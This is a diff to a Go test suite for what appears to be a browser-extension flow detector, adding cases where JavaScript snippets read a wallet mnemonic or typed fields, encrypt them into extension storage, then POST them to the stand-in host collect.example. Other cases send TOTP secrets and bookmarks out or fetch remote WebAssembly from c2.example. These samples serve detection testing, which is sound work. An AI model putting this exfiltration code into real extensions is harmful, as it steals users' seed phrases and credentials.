@@ -8,6 +8,9 @@ import (
 
 // Each row of what honest tools do stands beside what a thief would do in its place.
 func TestFlowsOfHonestTools(t *testing.T) {
+	const vault = `(async () => { const kept = {activeAccount: self.account, kept: [document.querySelector("#mnemonic").value]};
+		const box = await crypto.subtle.encrypt(how, key, new TextEncoder().encode(JSON.stringify(kept)));
+		chrome.storage.local.set({box}); chrome.storage.local.get("box", async ({box}) => `
 	const send = `fetch("https://collect.example/", {method: "POST", body: `
 	for _, c := range []flowCase{
 		{"module that is given nothing", behavior.Background, `fetch("https://c2.example/m.wasm").then(WebAssembly.instantiateStreaming)`, nil},
@@ -29,6 +32,10 @@ func TestFlowsOfHonestTools(t *testing.T) {
 		{"address of a server that is typed", behavior.Popup, `document.querySelector("#go").onclick = () => fetch(document.querySelector("#totp-secret").value)`, nil},
 		{"what is typed as part of an address", behavior.Popup, `document.querySelector("#go").onclick = () => fetch("https://collect.example/" + document.querySelector("#totp-secret").value)`, []string{"otp_field(#totp-secret) > fetch > collect.example"}},
 		{"class of a library", behavior.Popup, send + `self.sdk.PrivateKey.version})`, nil},
+		{"what the words are to be called", behavior.Popup, `document.querySelector("#go").onclick = () => fetch("https://collect.example/" + document.querySelector("#seed-label").value)`, []string{"form_data(#seed-label) > fetch > collect.example"}},
+		{"address in a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `v.activeAccount}) }) })()`, nil},
+		{"words in a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `v.kept[0]}) }) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
+		{"all of a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `JSON.stringify(v)}) }) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
 		{"whether one address is a bookmark", behavior.Background, `chrome.bookmarks.search({url: self.address}, (l) => ` + send + `l[0].url}))`, nil},
 		{"bookmarks", behavior.Background, `chrome.bookmarks.search({}, (l) => ` + send + `l[0].url}))`, []string{"history > fetch > collect.example"}},
 		{"field of a server's form", behavior.Background, `fetch("https://archive.example/").then((r) => r.text()).then((t) => { const d = new DOMParser().parseFromString(t, "text/html"); ` + send + `d.querySelector("input[name=id]").value}) })`, nil},
